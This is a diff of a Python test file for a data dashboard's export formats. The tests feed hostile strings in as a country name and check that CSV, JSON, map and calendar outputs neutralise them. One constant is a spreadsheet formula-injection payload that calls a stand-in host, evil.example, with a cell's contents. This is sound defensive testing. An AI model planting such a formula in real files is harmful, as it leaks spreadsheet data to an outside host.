@@ -26,6 +26,7 @@ from dashboard.publish.tokens import light_colours
 from dashboard.record.ledger import Ledger
 from dashboard.record.models import Event
 from dashboard.record.pack import Pack
+from dashboard.record.plain import plain
 from dashboard.story.frames import build_frames
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Finland")'
@@ -70,19 +71,21 @@ def test_no_cell_runs_and_every_word_is_there(harmed: Takeaway, harm: str) -> No
             for row in csv.reader(io.StringIO(content, newline=""), strict=True):
                 for cell in row:
                     assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), name
-                    seen += unguarded(cell) == harm
+                    seen += unguarded(cell) == plain(harm)
     assert seen >= 15
 
 
 def test_json_and_maps_hold_the_very_words(harmed: Takeaway, harm: str, tmp_path: Path) -> None:
     quotes = json.loads(harmed.file("quotes.json"))
-    assert quotes[0]["quote"] == harm
-    assert json.loads(harmed.standing(day("2025-12-27"), "json"))["states"][2]["name"] == harm
+    assert quotes[0]["quote"] == plain(harm)
+    assert json.loads(harmed.standing(day("2025-12-27"), "json"))["states"][2]["name"] == plain(
+        harm
+    )
     for name, layer in (("standing/latest.geojson", None), ("flankwatch.gpkg", "states")):
         path = tmp_path / name.replace("/", "-")
         path.write_bytes(harmed.file(name))
         read = gpd.read_file(path, layer=layer) if layer else gpd.read_file(path)
-        assert read.set_index("iso_a3").loc["FIN", "name"] == harm
+        assert read.set_index("iso_a3").loc["FIN", "name"] == plain(harm)
 
 
 def test_a_feed_stays_a_feed_and_carries_no_markup_of_others(harmed: Takeaway) -> None:
@@ -104,7 +107,7 @@ def test_a_calendar_stays_a_calendar(harmed: Takeaway, harm: str, takeaway: Take
     assert [entry["UID"] for entry in entries] == [entry["UID"] for entry in usual]
     [notice] = [entry for entry in entries if entry["UID"].startswith(f"{NOTICE}@")]
     if harm not in (CONTROL, LINES):
-        assert notice["SUMMARY"] == harm
+        assert notice["SUMMARY"] == plain(harm)
 
 
 def test_the_description_still_holds(harmed: Takeaway, tmp_path: Path) -> None:
@@ -134,7 +137,16 @@ def altered_ledger(pack: Pack, events: list[Event], name: str) -> Ledger:
     }
     states = {**pack.states, "FIN": finland}
     return Ledger(
-        Pack(pack.treaty, states, tuple(events), pack.quotes, sources, pack.claims, pack.borders)
+        Pack(
+            pack.treaty,
+            states,
+            tuple(events),
+            pack.quotes,
+            sources,
+            pack.claims,
+            pack.borders,
+            pack.names,
+        )
     )
 
 
